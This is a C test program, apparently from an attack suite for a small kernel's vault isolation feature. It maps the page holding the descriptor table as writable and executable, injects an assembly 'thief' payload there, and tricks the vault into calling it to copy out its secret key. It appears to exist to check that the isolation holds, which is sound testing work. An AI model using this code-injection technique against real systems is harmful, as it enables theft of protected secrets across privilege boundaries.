/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Has the kernel map the page with its descriptor table, writes code there, and has the portion
 * call it: the processor needs that page in every view.
 */
#include "programs/vault/attack.h"

#define KERNEL_BASE 0xffffffff80000000u
#define PAGE        4096

uint64_t key[VAULT_KEY_WORDS];

/* Copies the key to key[]; runs wherever it lies. */
extern const uint8_t thief[], thief_end[];
__asm__(".pushsection .rodata\n"
        "thief:\n"
        "    cld\n"
        "    movabsq $vault_key, %rsi\n"
        "    movabsq $key, %rdi\n"
        "    movl $32, %ecx\n"
        "    rep movsb\n"
        "    xorl %eax, %eax\n"
        "    ret\n"
        "thief_end:\n"
        ".popsection\n");

struct __attribute__((packed)) descriptor_table {
    uint16_t limit;
    uint64_t base;
};

#define THIEF_MAX 64

int main(int argc, char **argv)
{
    uint64_t signature = vault_sign(ATTACK_MESSAGE, 0);
    struct descriptor_table table = {0, 0};
    uint64_t length = (uint64_t)(thief_end - thief);
    volatile uint8_t *room = (volatile uint8_t *)(ATTACK_ELSEWHERE + PAGE - THIEF_MAX);
    uint8_t before[THIEF_MAX];

    (void)argc;
    __asm__ volatile("sgdt %0" : "=m"(table));
    attack_map(ATTACK_ELSEWHERE, (table.base - KERNEL_BASE) & ~0xfffull,
               TINY_MAP_READ | TINY_MAP_WRITE | TINY_MAP_EXECUTE);
    for (uint64_t i = 0; i < length; i++) {
        before[i] = room[i];
        room[i] = thief[i];
    }
    vault_check(ATTACK_MESSAGE, signature, (int (*)(uint64_t))(uint64_t)room);
    for (uint64_t i = 0; i < length; i++) {
        room[i] = before[i];
    }
    return attack_ends(argv[0], vault_is_key(key, ATTACK_MESSAGE, signature));
}
